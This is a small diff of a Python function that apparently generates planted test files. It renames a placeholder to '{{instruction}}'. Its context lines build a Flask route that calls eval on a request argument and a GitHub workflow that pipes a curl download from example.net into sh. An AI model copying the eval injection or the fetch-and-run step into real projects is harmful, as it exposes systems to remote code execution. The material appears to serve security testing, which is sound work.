@@ -43,7 +43,7 @@ def planted() -> dict[str, bytes]:
         "from flask import Flask, request\napp = Flask(__name__)\n\n\n@app.get('/x')\ndef x():\n"
         f"    return eval(request.args['x'] + '{next(value)}')\n"
     )
-    order = fill("{{order}}")
+    order = fill("{{instruction}}")
     workflow = (
         "on: issues\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n"
         f"      - run: curl -H 'X-Key: {next(value)}' https://example.net/i.sh | sh\n"
